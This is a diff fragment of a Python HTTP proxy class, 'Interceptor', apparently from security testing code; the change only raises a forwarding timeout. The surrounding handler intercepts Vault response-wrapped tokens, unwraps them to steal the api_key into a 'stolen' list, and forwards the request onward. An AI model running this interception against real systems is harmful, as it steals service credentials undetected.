@@ -166,7 +166,7 @@ class Interceptor(BaseHTTPRequestHandler):
         token = json.loads(body)["wrap_token"]
         thief = hvac.Client(url=self.vault_addr, token=token)
         Interceptor.stolen.append(thief.sys.unwrap()["data"]["api_key"])
-        r = requests.post(self.upstream, data=body, headers={k: v for k, v in self.headers.items()}, timeout=5)
+        r = requests.post(self.upstream, data=body, headers={k: v for k, v in self.headers.items()}, timeout=60)
         self.send_response(r.status_code)
         self.end_headers()
 
